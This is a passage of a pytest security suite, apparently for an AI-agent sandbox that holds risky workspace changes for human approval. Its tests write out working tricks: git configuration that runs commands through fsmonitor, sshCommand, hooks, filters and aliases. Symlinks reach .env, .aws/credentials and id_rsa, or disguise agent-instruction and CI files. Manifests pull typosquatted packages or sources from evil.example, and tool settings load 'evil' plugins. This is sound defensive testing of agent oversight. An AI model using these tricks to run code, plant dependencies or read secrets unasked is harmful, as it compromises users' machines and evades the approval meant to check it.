"""Attacks on the judgement of changes: git's own rules, links in either order, hidden files, new packages."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

import pytest

from agent_sandbox.policy.model import FileRules
from agent_sandbox.policy.paths import parse
from agent_sandbox.policy.secrets import Mask
from agent_sandbox.workspace.promotion import inspect
from agent_sandbox.workspace.promotion.inspect import Protection, TreeContext, judge_changes, look_at
from agent_sandbox.workspace.protected import CLASSES
from tests.security.conftest import Tell
from tests.security.harness import case
from tests.workspace.promotion.trees import Edited

pytestmark = pytest.mark.once

Edit = Callable[[Path], None]


def judged(edited: Edited, around: TreeContext | None = None) -> Protection:
    root = str(edited.project)
    return judge_changes(edited.changes, look_at(root, edited.changes), edited, root=root, around=around)


def kinds(edited: Edited, around: TreeContext | None = None) -> dict[str, frozenset[str]]:
    """The classes of each change that has any, by relative path."""
    root = str(edited.project)
    return {os.path.relpath(path, root): classes for path, classes in judged(edited, around).classes.items()}


def write(path: Path, text: str, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def git(directory: Path, *words: str, home: Path | None = None) -> None:
    """Run git as its user would in a directory; what it says, and whether it fails, does not matter."""
    env = {"PATH": os.environ["PATH"], "HOME": str(home or "/nonexistent"), "GIT_CONFIG_NOSYSTEM": "1"}
    env |= {f"GIT_{who}_{what}": "a@b" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    subprocess.run(["git", *words], cwd=directory, env=env, capture_output=True, check=False, timeout=120)


def repository(tree: Path, *settings: str) -> None:
    git(tree, "init", "-q", ".")
    git(tree, "config", "user.name", "src")  # no path, although there is a directory of this name
    write(tree / "src/app.py", "x = 1\n")
    for setting in settings:
        key, _, value = setting.partition("=")
        git(tree, "config", key, value)
    git(tree, "add", "-A")
    git(tree, "commit", "-qm", "first")


Step = Callable[[Path, str], None]  # on a tree; the second is a shell command that leaves a file behind


class GitAttack(NamedTuple):
    """A way to have git run a program. `run` is where and how a person uses git afterwards, in words that seem harmless."""

    make: Step
    edit: Step
    run: tuple[str, ...]
    where: str = "."


def _split_store(tree: Path) -> None:
    """A repository whose directory lies in the project under another name, and a file `.git` that names it."""
    git(tree, "init", "-q", "--separate-git-dir", str(tree / "store"), "sub")
    write(tree / "sub/.git", "gitdir: ../store\n")


def script(tree: Path, name: str, canary: str) -> None:
    write(tree / name, f"#!/bin/sh\n{canary}\ncat\n", 0o755)


def repo(*settings: str) -> Step:
    return lambda tree, canary: repository(tree, *settings)


def file(name: str, text: str) -> Step:
    return lambda tree, canary: write(tree / name, text.replace("CANARY", canary))


def program(name: str) -> Step:
    return lambda tree, canary: script(tree, name, canary)


def link(name: str, target: str) -> Step:
    return lambda tree, canary: _link(target, tree / name)


def steps(*each: Step) -> Step:
    def all_steps(tree: Path, canary: str) -> None:
        for step in each:
            step(tree, canary)

    return all_steps


HEAD = file("docs/HEAD", "ref: refs/heads/main\n")
MONITOR = 'fsmonitor = "CANARY; false"\n'
HALF = steps(
    file("docs/config", f"[core]\nrepositoryformatversion = 0\nbare = false\nworktree = .\n{MONITOR}"),
    file("docs/objects/x", ""),
    file("docs/refs/x", ""),
)
REMOTE = '[remote "origin"]\nurl = ssh://127.0.0.1/x\nfetch = +refs/heads/*:refs/remotes/origin/*\n'
STORE = steps(
    file("store/config", f'[core]\nrepositoryformatversion = 0\nsshCommand = "CANARY; false"\n{REMOTE}'),
    file("store/objects/x", ""),
    file("store/refs/x", ""),
)
COMMON = steps(HEAD, file("docs/commondir", "../store\n"))
HOOKS, CHECKOUT = repo("core.hooksPath=tools/hooks"), ("checkout", "-qB", "x")
GIT: dict[str, GitAttack] = {
    "a directory with HEAD and commondir": GitAttack(repo(), steps(COMMON, STORE), ("fetch",), "docs"),
    "one of which the other half is real": GitAttack(steps(repo(), STORE), COMMON, ("fetch",), "docs"),
    "the configuration of a work tree": GitAttack(
        repo("extensions.worktreeConfig=true"),
        steps(HEAD, file("docs/commondir", "../.git\n"), file("docs/config.worktree", f"[core]\nbare = false\nworktree = ..\n{MONITOR}")),
        ("status",),
        "docs",
    ),
    "the second half of a bare repository": GitAttack(HALF, HEAD, ("status",), "docs"),
    "the first half, where HEAD is there": GitAttack(HEAD, HALF, ("status",), "docs"),
    "a hook where core.hooksPath leads": GitAttack(HOOKS, program("tools/hooks/post-checkout"), CHECKOUT),
    "a hook where core.hooksPath leads through a link": GitAttack(
        steps(HOOKS, file("h/x", ""), link("tools/hooks", "../h")), program("h/post-checkout"), CHECKOUT
    ),
    "a link where core.hooksPath leads": GitAttack(
        steps(HOOKS, program("samples/post-checkout")), link("tools/hooks", "../samples"), CHECKOUT
    ),
    "an included file": GitAttack(repo("include.path=../settings/git.ini"), file("settings/git.ini", f"[core]\n{MONITOR}"), ("status",)),
    "a program that an included file names": GitAttack(
        steps(file("git.ini", "[Core]\n\tFSMonitor = ./tools/watch # x\n"), repo("include.path=../git.ini")),
        program("tools/watch"),
        ("status",),
    ),
    "the script of a filter": GitAttack(
        steps(file(".gitattributes", "*.md filter=x\n"), repo("filter.x.clean=sh tools/clean.sh")),
        steps(program("tools/clean.sh"), file("README.md", "x\n")),
        ("add", "-A"),
    ),
    "the script of an alias": GitAttack(
        repo('alias.st=!sh "$(git rev-parse --show-toplevel)/tools/st.sh"'), program("tools/st.sh"), ("st",)
    ),
    "the directory that the file .git names": GitAttack(
        lambda tree, canary: _split_store(tree), file("store/config", f"[core]\n{MONITOR}"), ("status",), "sub"
    ),
}


def _link(target: str, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


@case(211)
@pytest.mark.parametrize("name", GIT)
def test_git_runs_nothing_of_a_promotion_without_the_yes_for_its_kind(number: int, name: str, tmp_path: Path, tell: Tell) -> None:
    attack, canary = GIT[name], tmp_path / "canary"
    command = f"touch {canary}"
    edited = Edited(tmp_path, lambda tree: attack.make(tree, command), lambda tree: attack.edit(tree, command))
    if (edited.project / attack.where).exists():
        git(edited.project / attack.where, *attack.run)
    assert not canary.exists(), "what is real already runs nothing"
    found = kinds(edited)
    assert "git-config" in frozenset().union(*found.values()), found
    held = edited.plan(classes=judged(edited).classes, approved=frozenset(CLASSES) - {"git-config"}).held
    assert held and all(each.classes == {"git-config"} for each in held)
    approved = edited.plan(classes=judged(edited).classes, approved=frozenset(CLASSES))
    assert not approved.held
    edited.promote(approved)
    git(edited.project / attack.where, *attack.run)
    assert canary.exists(), "the control arm: with the yes it is promoted, and git runs it"
    edited.close()
    tell(f"held as git-config: {name}", control="approved, git runs the canary")


@case(211)
def test_the_configuration_of_the_users_home_names_files_of_the_project_too(number: int, tmp_path: Path, tell: Tell) -> None:
    home, canary = tmp_path / "home", tmp_path / "canary"
    write(home / ".gitconfig", "[core]\n\thooksPath = tools/hooks\n")
    edited = Edited(tmp_path, repository, lambda tree: script(tree, "tools/hooks/post-checkout", f"touch {canary}"))
    assert kinds(edited) == {}, "without that home it is a file like any other"
    around = TreeContext(home=str(home))
    assert kinds(edited, around)["tools/hooks/post-checkout"] == {"git-config"}
    edited.promote()
    git(edited.project, "checkout", "-qb", "x", home=home)
    assert canary.exists()
    edited.close()
    tell("a hook that ~/.gitconfig leads to is held", control="promoted, git runs it")


@case(211)
def test_an_ordinary_day_in_a_repository_names_nothing_of_gits(number: int, tmp_path: Path, tell: Tell) -> None:
    def make(tree: Path) -> None:
        settings = ("core.editor=vim", "alias.co=checkout", "diff.tool=meld", "remote.origin.url=../src", "core.hooksPath=tools/hooks")
        repository(tree, *settings, "merge.conflictStyle=diff3", "commit.template=docs/message.txt")
        write(tree / "refs/x", "")
        write(tree / "checkout/x.py", "")

    def edit(tree: Path) -> None:
        for name in ("src/app.py", "docs/a.md", "docs/message.txt", "tests/test_a.py", "tools/other.py", "checkout/x.py", "refs/HEAD"):
            write(tree / name, "y\n")

    edited = Edited(tmp_path, make, edit)
    assert kinds(edited) == {}
    edited.close()
    tell("sources, tests and documents need no yes", control="the attacks above do")


class LinkAttack(NamedTuple):
    """A link and a file, of which one or both are new, and the file's protected class."""

    make: Edit
    edit: Edit
    held: Mapping[str, str]


WORKFLOW = "on: push\n"


def both(*edits: Edit) -> Edit:
    def edit(tree: Path) -> None:
        for each in edits:
            each(tree)

    return edit


def put(name: str, text: str = "x\n") -> Edit:
    return lambda tree: write(tree / name, text)


def linked(name: str, target: str) -> Edit:
    return lambda tree: _link(target, tree / name)


def nothing(tree: Path) -> None:
    pass


def moved(old: str, new: str) -> Edit:
    def edit(tree: Path) -> None:
        (tree / new).parent.mkdir(parents=True, exist_ok=True)
        shutil.move(tree / old, tree / new)

    return edit


def relinked(name: str, target: str) -> Edit:
    def edit(tree: Path) -> None:
        (tree / name).unlink()
        os.symlink(target, tree / name)

    return edit


LINKS: dict[str, LinkAttack] = {
    "the link is real": LinkAttack(linked(".github", "ci"), put("ci/workflows/x.yml", WORKFLOW), {"ci/workflows/x.yml": "ci"}),
    "the file is real": LinkAttack(put("ci/workflows/x.yml", WORKFLOW), linked(".github", "ci"), {".github": "ci"}),
    "both are new": LinkAttack(
        nothing, both(linked(".github", "ci"), put("ci/workflows/x.yml")), {"ci/workflows/x.yml": "ci", ".github": "ci"}
    ),
    "a chain of real links": LinkAttack(
        both(linked(".github", "a"), linked("a", "b/../c"), put("b/x"), linked("c", "d")),
        put("d/workflows/x.yml"),
        {"d/workflows/x.yml": "ci"},
    ),
    "the middle of a chain is new": LinkAttack(both(linked(".github", "a"), put("d/workflows/x.yml")), linked("a", "d"), {"a": "ci"}),
    "the second name is a link": LinkAttack(
        put(".github/README"), both(linked(".github/workflows", "../ci"), put("ci/x.yml")), {"ci/x.yml": "ci", ".github/workflows": "ci"}
    ),
    "the second name is a real link": LinkAttack(linked(".github/workflows", "../ci"), put("ci/x.yml"), {"ci/x.yml": "ci"}),
    "a link to the project itself": LinkAttack(linked(".github", "."), put("workflows/x.yml"), {"workflows/x.yml": "ci"}),
    "a link elsewhere in the project": LinkAttack(
        linked("pkg/deep/.vscode", "../../conf"), put("conf/tasks.json"), {"conf/tasks.json": "editor"}
    ),
    "an absolute link": LinkAttack(linked(".vscode", "PROJECT/conf"), put("conf/tasks.json"), {"conf/tasks.json": "editor"}),
    "another spelling": LinkAttack(linked(".GitHub", "ci"), put("ci/Workflows/x.yml"), {"ci/Workflows/x.yml": "ci"}),
    "a link to a file": LinkAttack(linked("CLAUDE.md", "docs/notes.md"), put("docs/notes.md"), {"docs/notes.md": "agent-instructions"}),
    "a link to git's directory": LinkAttack(
        linked(".git", "store"), put("store/hooks/pre-commit"), {"store/hooks/pre-commit": "git-config"}
    ),
    "git's history through a link": LinkAttack(linked(".git", "store"), put("store/objects/ab/cd"), {"store/objects/ab/cd": "git-history"}),
    "the text of a file with another name": LinkAttack(
        linked("package.json", "data.json"), put("data.json", '{"scripts": {"postinstall": "evil"}}'), {"data.json": "package-scripts"}
    ),
    "a list of packages that lies among installed ones": LinkAttack(
        both(linked("package.json", "node_modules/x/package.json"), put("node_modules/x/package.json", '{"name": "x", "version": "1"}')),
        put("node_modules/x/package.json", '{"name": "x", "version": "1", "dependencies": {"evil": "1"}}'),
        {"node_modules/x/package.json": "new-dependency"},
    ),
    "a list of packages with another name": LinkAttack(
        linked("requirements.txt", "notes.txt"), put("notes.txt", "evil\n"), {"notes.txt": "new-dependency"}
    ),
    "a link in the place of a manifest": LinkAttack(
        both(put("package.json", "{}"), put("data.json", '{"scripts": {"install": "evil"}}')),
        relinked("package.json", "data.json"),
        {"package.json": "package-scripts"},
    ),
    "a link that leads elsewhere now": LinkAttack(
        both(linked(".github", "a"), put("a/README"), put("b/workflows/x.yml")), relinked(".github", "b"), {".github": "ci"}
    ),
    "a link that is taken away": LinkAttack(
        both(linked(".github", "ci"), put("ci/workflows/x.yml")), lambda tree: (tree / ".github").unlink(), {".github": "ci"}
    ),
    "a directory is moved to a protected name": LinkAttack(
        put("ci/workflows/x.yml"), moved("ci", ".github"), {".github/workflows/x.yml": "ci"}
    ),
    "a directory is moved to where a link leads": LinkAttack(
        both(linked(".vscode", "conf"), put("x/tasks.json")), moved("x", "conf"), {"conf/tasks.json": "editor"}
    ),
    "loops": LinkAttack(
        both(linked("a/up", ".."), linked("b", "a/up/a"), linked(".vscode", "b")), put("a/tasks.json"), {"a/tasks.json": "editor"}
    ),
}


@case(212)
@pytest.mark.parametrize("name", LINKS)
def test_a_file_is_judged_by_every_name_that_links_give_it(number: int, name: str, tmp_path: Path, tell: Tell) -> None:
    attack = LINKS[name]

    def make(tree: Path) -> None:
        write(tree / "keep", "x\n")
        attack.make(tree)
        for path in [path for path in tree.rglob("*") if path.is_symlink() and os.readlink(path).startswith("PROJECT")]:
            target = os.readlink(path).replace("PROJECT", str(tmp_path / "project"))
            path.unlink()
            path.symlink_to(target)

    edited = Edited(tmp_path, make, attack.edit)
    found = kinds(edited)
    for path, kind in attack.held.items():
        assert kind in found.get(path, ()), (path, found)
    edited.close()
    (tmp_path / "control").mkdir()
    without = Edited(tmp_path / "control", lambda tree: write(tree / "keep", "x\n"), put("ci/work/x.yml"))
    assert kinds(without) == {}, "the control arm: a file of which no protected name is a name"
    without.close()
    tell(f"held, {name}", control="without the link it is a file like any other")


@case(212)
def test_a_dense_graph_of_links_is_judged_in_time(number: int, tmp_path: Path, tell: Tell) -> None:
    def make(tree: Path) -> None:
        for at in range(60):
            for other in range(60):
                _link(f"../d{other}", tree / f"d{at}/to{other}")
        _link("d59", tree / ".vscode")

    edited = Edited(tmp_path, make, put("d0/tasks.json"))
    assert kinds(edited)["d0/tasks.json"] == {"editor"}
    edited.close()
    tell("3,600 links among 60 directories, in every direction", control="a list of all names would not end")


@case(212)
def test_a_project_too_large_to_search_needs_a_yes(number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, tell: Tell) -> None:
    edited = Edited(tmp_path, both(*(put(f"d/{at}") for at in range(30))), put("new"))
    assert kinds(edited) == {}
    monkeypatch.setattr(inspect, "MOST_ENTRIES", 20)
    assert kinds(edited) == {".": {"unexamined"}}
    edited.close()
    tell("over the limit it is held", control="below the limit it passes")


SECRET_LINKS = {
    "public/c.txt": "../.env",
    "absolute": "PROJECT/.env",
    "above": "..",  # of the directory public
    "deep": "conf",
    "below": ".aws/credentials",
    "chain": "first",
    "first": "second/.env",
    "second": "public/..",
    "outside": "../elsewhere/id_rsa",
}
PLAIN_LINKS = {"plain": "src/app.py", "directory": "src", "dangling": "src/none"}


@case(213)
def test_a_link_to_a_hidden_file_needs_its_own_yes(number: int, tmp_path: Path, tell: Tell) -> None:
    project = tmp_path / "project"
    hidden = [".env", "conf/deep/secrets.toml", ".aws", "conf/none"]

    def make(tree: Path) -> None:
        for name in (".env", "conf/deep/secrets.toml", ".aws/credentials", "src/app.py", "public/index.html"):
            write(tree / name, "canary\n")
        _link("through/.env", tree / "real")

    def edit(tree: Path) -> None:
        for name, target in {**SECRET_LINKS, **PLAIN_LINKS, "through": "src/.."}.items():
            place = tree / "public/above" if name == "above" else tree / name
            _link(target.replace("PROJECT", str(project)), place)

    edited = Edited(tmp_path, make, edit)
    masks = [Mask(str(place), "test") for place in (*(project / name for name in hidden), tmp_path / "elsewhere")]
    around = TreeContext.of(str(project), FileRules(masks=tuple(masks)))
    wanted = {"public/above" if name == "above" else name for name in SECRET_LINKS} | {"through"}
    assert {path for path, classes in kinds(edited, around).items() if "links-to-secrets" in classes} == wanted
    assert not any("links-to-secrets" in classes for classes in kinds(edited).values()), "where nothing is hidden, none of them is held"
    edited.promote(edited.plan(classes=judged(edited, around).classes, approved=frozenset(CLASSES)))
    assert (project / "public/c.txt").read_text() == (project / "chain").read_text() == (project / "real").read_text() == "canary\n"
    edited.close()
    tell(f"{len(wanted)} links held, {len(PLAIN_LINKS)} pass", control="approved, whoever follows them reads the secret")


def test_a_link_to_a_directory_in_which_a_pattern_hides_a_file_needs_its_own_yes(tmp_path: Path) -> None:
    project = tmp_path / "project"

    def make(tree: Path) -> None:
        for name in ("data/deep/a.key", "data/b.txt", "src/app.py"):
            write(tree / name, "canary\n")

    def edit(tree: Path) -> None:
        for name, target in {"one": "data", "two": "data/deep", "file": "data/deep/a.key", "plain": "src", "text": "data/b.txt"}.items():
            _link(target, tree / name)

    edited = Edited(tmp_path, make, edit)
    around = TreeContext.of(str(project), FileRules(denied=(parse(f"{project}/data/**/*.key"),)))
    assert {path for path, classes in kinds(edited, around).items() if "links-to-secrets" in classes} == {"one", "two", "file"}
    assert not any("links-to-secrets" in classes for classes in kinds(edited).values()), "the control arm: nothing is hidden"
    edited.close()


MANIFESTS: dict[str, tuple[str, str, str]] = {
    "requirements.txt": ("requests==2\n", "requests==2  # pinned\n", "requests==2\nreqeusts==2\n"),
    "requirements/dev.txt": ("pytest\n", "# tools\npytest\n", "pytest\n--find-links https://evil.example/list\n"),
    "pyproject.toml": (
        '[project]\ndependencies = ["flask"]\n',
        '[project]\nversion = "2"\ndependencies = ["flask"]\n',
        '[project]\ndependencies = ["flask", "flaask"]\n',
    ),
    "setup.cfg": (
        "[options]\ninstall_requires = a\n",
        "[options]\ninstall_requires =\n    a\n",
        "[options]\ninstall_requires =\n    a\n    b\n",
    ),
    "setup.py": ("setup(install_requires=['a'])", "setup( install_requires = ['a'] )", "setup(install_requires=['a', 'b'])"),
    "Pipfile": ('[packages]\na = "*"\n', '[packages]\na = "*"  # x\n', '[packages]\na = {git = "https://evil.example/a"}\n'),
    "package.json": (
        '{"dependencies": {"react": "1"}}',
        '{"version": "2", "dependencies": {"react": "1"}}',
        '{"dependencies": {"react": "1", "raect": "1"}}',
    ),
    "node_modules/@a/b/package.json": (
        '{"name": "@a/b", "version": "1", "devDependencies": {"c": "1"}}',
        '{"name": "@a/b", "version": "1", "devDependencies": {"c": "2", "d": "1"}}',
        '{"name": "@a/b", "version": "2", "devDependencies": {"c": "1"}}',
    ),
    "web/package.json": ("{}", '{"name": "x"}', '{"overrides": {"a": {"b": "npm:evil"}}}'),
    "Cargo.toml": (
        '[dependencies]\nserde = "1"\n',
        '[package]\nname = "x"\n[dependencies]\nserde = "1"\n',
        '[dependencies.serde]\ngit = "https://evil.example"\n',
    ),
    "go.mod": ("module x\nrequire a v1\n", "module y\nrequire a v1 // indirect\n", "module x\nrequire a v1\nreplace a => ../b\n"),
    "Gemfile": ("gem 'rails'\n", "# x\n\ngem 'rails'\n", "gem 'rails'\ngem 'rials'\n"),
    "composer.json": ('{"require": {"a/b": "1"}}', '{"name": "x", "require": {"a/b": "1"}}', '{"require": {"a/b": "2"}}'),
    "pom.xml": (
        "<dependency><artifactId>a</artifactId></dependency>",
        "<!-- x --> <dependency>\n<artifactId>a</artifactId></dependency>",
        "<dependency><artifactId>a</artifactId></dependency><dependency><artifactId>b</artifactId></dependency>",
    ),
    "environment.yml": (
        "name: a\ndependencies:\n  - numpy\n",
        "name: b\ndependencies:\n  - numpy # x\n",
        "name: a\ndependencies: [numpy, evil]\n",
    ),
    "package-lock.json": (
        '{"packages": {"node_modules/a": {"version": "1", "resolved": "https://r.example/a/-/a-1.tgz"}}}',
        '{"packages": {"node_modules/a": {"version": "2", "resolved": "https://r.example/a/-/a-2.tgz"}}}',
        '{"packages": {"node_modules/a": {"version": "1", "resolved": "https://evil.example/a-1.tgz"}}}',
    ),
    "uv.lock": (
        '[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://r.example/list" }\n',
        '[[package]]\nname = "a"\nversion = "2"\nsource = { registry = "https://r.example/list" }\n',
        '[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://evil.example/list" }\n',
    ),
    "pnpm-lock.yaml": (
        "packages:\n  a@1.0.0:\n    x: 1\n",
        "packages:\n  a@1.0.1:\n    x: 1\n",
        "packages: {a@1.0.0: {}, evil@1.0.0: {}}\n",
    ),
    "yarn.lock": (
        'a@^1:\n  resolved "https://r.example/1"\n',
        'a@^1:\n  resolved "https://r.example/2"\n',
        'a@^1:\n  resolved "https://evil.example/1"\n',
    ),
}


@case(214)
@pytest.mark.parametrize("name", MANIFESTS)
def test_a_new_or_changed_dependency_needs_its_own_yes_and_nothing_else_in_a_manifest_does(
    number: int, name: str, tmp_path: Path, tell: Tell
) -> None:
    before, harmless, changed = MANIFESTS[name]
    for at, (after, held) in enumerate([(harmless, False), (changed, True), ("[\0", True)]):
        (tmp_path / str(at)).mkdir()
        edited = Edited(tmp_path / str(at), put(name, before), put(name, after))
        assert ("new-dependency" in kinds(edited).get(name, ())) is held, (name, after, judged(edited))
        edited.close()
    (tmp_path / "removed").mkdir()
    edited = Edited(tmp_path / "removed", put(name, changed), lambda tree: (tree / name).unlink())
    assert kinds(edited).get(name, frozenset()) <= {"package-scripts", "tool-config", "policy"}, "a removed one is none"
    edited.close()
    tell("a new package, version or source is held", control="comments, layout and the rest of a manifest pass")


@case(214)
def test_a_name_that_imitates_another_is_shown_as_one(number: int, tmp_path: Path, tell: Tell) -> None:
    lines = ("reqeusts==2", "rnatplotlib", "python_dateutils", "djang0", "reаl-lib", "left-over-thing", "numpy")
    edited = Edited(tmp_path, put("requirements.txt", "real-lib\n"), put("requirements.txt", "\n".join(("real-lib", *lines))))
    (remarks,) = judged(edited).remarks.values()
    assert remarks == (
        "reqeusts: new, ==2; one letter from requests",
        "rnatplotlib: new; looks like matplotlib",
        "python-dateutils: new; one letter from python-dateutil",
        "djang0: new; looks like django",
        "reаl-lib: new; looks like real-lib",
        "left-over-thing: new",
        "numpy: new",
    )
    edited.close()
    tell("5 imitations are named with their originals", control="two honest names have no remark")


SETTINGS: dict[str, tuple[str, str, str]] = {
    "pyproject.toml": (
        "[tool.ruff]\nline-length = 1\n[tool.pytest.ini_options]\naddopts = '-q -ra'\ntestpaths = ['t']\n",
        "[tool.pytest.ini_options]\naddopts = '-p evil'\n",
        "tool-config",
    ),
    "a/pyproject.toml": (
        "[build-system]\n[tool.mypy]\nstrict = true\n",
        "[build-system]\nbuild-backend = 'x'\nbackend-path = ['.']\n",
        "tool-config",
    ),
    "b/pyproject.toml": ("[tool.coverage.run]\nbranch = true\n", "[tool.pylint.main]\ninit-hook = 'evil()'\n", "tool-config"),
    "c/pyproject.toml": (
        "[tool.hatch.build.targets.wheel]\npackages = ['x']\n",
        "[tool.hatch.build.hooks.custom]\npath = 'evil.py'\n",
        "tool-config",
    ),
    "setup.cfg": (
        "[metadata]\nversion = 2\n[flake8]\nmax-line-length = 100\n",
        "[flake8:local-plugins]\nextension =\n    X = evil:Evil\n",
        "tool-config",
    ),
    "tox.ini": ("[testenv]\ncommands = pytest\n", "[pytest]\nfilterwarnings = error::evil.Warning\n", "tool-config"),
    "pytest.ini": ("[pytest]\nmarkers = slow: x\n", "[pytest]\naddopts = -pevil\n", "tool-config"),
    "a/pytest.ini": ("[pytest]\nmarkers = slow: x\n", "[pytest] # ]\naddopts = -p evil\n", "tool-config"),
    "b/pytest.ini": ("[pytest]\naddopts = -v\n", "[other]\n[pytest] ; x\naddopts =\n    -p evil\n", "tool-config"),
    "pytest.toml": ("[pytest]\nmarkers = ['slow: x']\n", "[pytest]\naddopts = ['-p', 'evil']\n", "tool-config"),
    "d/pyproject.toml": ("[tool.pytest]\nmarkers = ['slow: x']\n", "[tool.pytest]\naddopts = ['-p', 'evil']\n", "tool-config"),
    "e/pyproject.toml": ("[tool.mypy]\nstrict = true\n", "[tool.mypy]\npython_executable = './evil'\n", "tool-config"),
    "f/pyproject.toml": ("[tool.pdm.scripts]\nx = 'y'\n", "[tool.pdm.scripts]\npost_install = 'evil'\n", "tool-config"),
    "g/pyproject.toml": (
        "[tool.hatch.envs.x]\nskip-install = true\n",
        "[tool.hatch.envs.x]\npost-install-commands = ['evil']\n",
        "tool-config",
    ),
    "tsconfig.base.json": ('{"compilerOptions": {}}', '{"compilerOptions": {"plugins": [{"name": "evil"}]}}', "editor"),
    "Cargo.toml": ('[package]\nname = "x"\n', '[package]\nname = "x"\nbuild = "src/evil.rs"\n', "editor"),
    "mypy.ini": ("[mypy]\nstrict = true\n", "[mypy]\nplugins = ./evil.py\n", "tool-config"),
    "package.json": ('{"version": "2"}', '{"jest": {"globalSetup": "./evil.js"}}', "tool-config"),
    "composer.json": ('{"name": "x"}', '{"scripts": {"post-install-cmd": "evil"}}', "package-scripts"),
    "tsconfig.json": ('{\n  // x\n  "compilerOptions": {}}', '{"compilerOptions": {"plugins": [{"name": "evil"}]}}', "editor"),
    "x.csproj": ("<Project><PropertyGroup /></Project>", '<Project><Target Name="x"><Exec Command="evil" /></Target></Project>', "editor"),
    "a/setup.cfg": ("[bdist_wheel]\nuniversal = 1\n", "[global]\ncommand_packages = evil\n", "tool-config"),
    "h/pyproject.toml": ("[tool.setuptools]\nzip-safe = true\n", "[tool.setuptools.cmdclass]\nbuild = 'evil.Build'\n", "tool-config"),
    "i/pyproject.toml": (
        "[tool.pixi.project]\nname = 'x'\n",
        "[tool.pixi.target.linux.activation]\nscripts = ['evil.sh']\n",
        "tool-config",
    ),
    "a/Cargo.toml": ('[lib]\nname = "x"\n', '[lib]\nname = "x"\nproc-macro = true\n', "editor"),
    "a/tsconfig.json": ('{"include": ["x"]}', '{"compilerOptions": {"plu\\u0067ins": [{"name": "evil"}]}}', "editor"),
    "b/tsconfig.json": ('{"include": ["x"]}', "{'compilerOptions': {'plugins': [{'name': 'evil'}]}}", "editor"),
    "c/tsconfig.json": ('{"include": ["x"]}', '{"extends": ["./ours.json", "./evil.json"]}', "editor"),
    "deno.json": ('{"fmt": {}}', '{"lint": {"plugins": ["./evil.ts"]}}', "tool-config"),
    ".coveragerc.toml": ("[run]\nbranch = true\n", "[run]\nplugins = ['evil']\n", "tool-config"),
    "a/package.json": ('{"version": "2"}', '{"gitHooks": {"pre-commit": "evil"}}', "package-scripts"),
    "a.props": ("<Project><PropertyGroup /></Project>", "<Project><Import\n Project='evil.targets' /></Project>", "editor"),
    "b.csproj": ("<Project/>", "<Project><PropertyGroup><PreBuildEvent>evil</PreBuildEvent></PropertyGroup></Project>", "editor"),
}
NAMES = {
    "tool-config": (
        *("eslint.config.mjs", ".eslintrc.json", "web/vite.config.ts", ".prettierrc.js", "rust-toolchain.toml", ".pylintrc"),
        *(".rubocop.yml", "jest.config.js", "postcss.config.cjs", ".mocharc.yml", "node_modules/.bin/tsc", ".proverc"),
        *(".rspec-local", "nyc.config.js", ".rubocop_todo.yml", "phpstan.dist.neon", "cspell.config.js", "rust-analyzer.toml"),
        *(".gitlint", ".oxlintrc.json", "drizzle.config.ts", "web/a-tool-of-next-year.config.mjs"),
        *(".a-tool-of-next-yearrc.cjs", "wdio.conf.js", "nextest.toml"),
    ),
    "editor": (
        *("build.rs", ".clangd", ".ycm_extra_conf.py", ".luarc.json", "build.gradle.kts", ".project", "hie.yaml", "mix.exs"),
        *("app/x.gradle", "buildSrc/src/x.kt", "CMakeLists.txt", "cmake/x.cmake", "build.zig", "project/plugins.sbt"),
        *(".devfile.yaml", ".theia/tasks.json"),
    ),
    "ci": (".woodpecker.yaml", "vercel.ts", ".gitlab-ci.d/x.yml", ".azuredevops/x.yml", ".cnb.yml"),
    "shell-startup": (".config/nushell/config.nu", "starship.toml", ".docker/config.json", ".bashrc.d/x", ".config/hypr/hyprland.conf"),
    "package-scripts": (
        *("prek.toml", "hk.pkl", ".moon/workspace.yml", "captainhook.json", ".config/dotnet-tools.json", ".nano-staged.mjs"),
        *("lefthook-local.yml", "lefthook.toml", ".huskyrc.js", ".pnp.cjs", ".pnpmfile.mjs"),
    ),
    "environment": (".envrc.local", ".rvmrc", "flake.nix", "shell.nix", "devbox.json", ".mise/config.toml", "mise.local.toml"),
    "git-config": (
        *(".config/git/config", ".hg/hgrc", ".hg/sharedpath", ".jj/repo/config.toml", ".svn/hooks/x", ".sl/config"),
        *(".lfsconfig",),
    ),
    "git-history": (".hg/store/00changelog.i", ".hg/dirstate", ".jj/repo/op_heads/x", ".svn/wc.db", ".bzr/repository/x"),
    "interpreter-startup": ("pyvenv.cfg", "evil.egg-info/entry_points.txt", ".venv/bin/python", ".ghci"),
    "agent-instructions": (
        *(".github/chatmodes/x.md", "x.instructions.md", ".rules", ".roorules-code", ".aiassistant/rules/x.md"),
        *(".pi/extensions/x.ts", ".agent/rules/x.md", ".vibe/config.toml", ".qoder/x", ".claude-plugin/plugin.json"),
        *(".gitlab/duo/chat-rules.md", "IFLOW.md", "CODEBUDDY.md", "SOUL.md", "gptme.toml", "conductor.json"),
        *(".copilot/mcp-config.json", ".openclaw/x", ".zencoder/rules/x"),
    ),
}
ORDINARY = (
    "src/app.ts",
    "tests/test_config.py",
    "docs/index.md",
    "Makefile",
    "Dockerfile",
    "README",
    "src/build.py",
    "config/settings.py",
    "index.html",
    "src/app/app.config.ts",
    "src/rc.js",
    "src/arc.js",
)


@case(215)
@pytest.mark.parametrize("name", SETTINGS)
def test_settings_that_name_code_to_run_need_their_own_yes(number: int, name: str, tmp_path: Path, tell: Tell) -> None:
    harmless, harmful, kind = SETTINGS[name]
    for at, (after, held) in enumerate([(harmless, False), (harmful, True)]):
        (tmp_path / str(at)).mkdir()
        edited = Edited(tmp_path / str(at), nothing, put(name, after))
        assert kinds(edited).get(name, frozenset()) - {"new-dependency"} == ({kind} if held else frozenset()), after
        edited.close()
    tell("held", control="other settings in the same file pass")


EDITS: dict[str, tuple[str, str, str, str]] = {
    "x.csproj": (
        '<Project><Target Name="x">\n<Exec\n Command="make" />\n</Target></Project>',
        '<Project><Target Name="x">\n<Exec\n Command="make"\n/>\n</Target></Project>',
        '<Project><Target Name="x">\n<Exec\n Command="evil" />\n</Target></Project>',
        "editor",
    ),
    "y.csproj": (
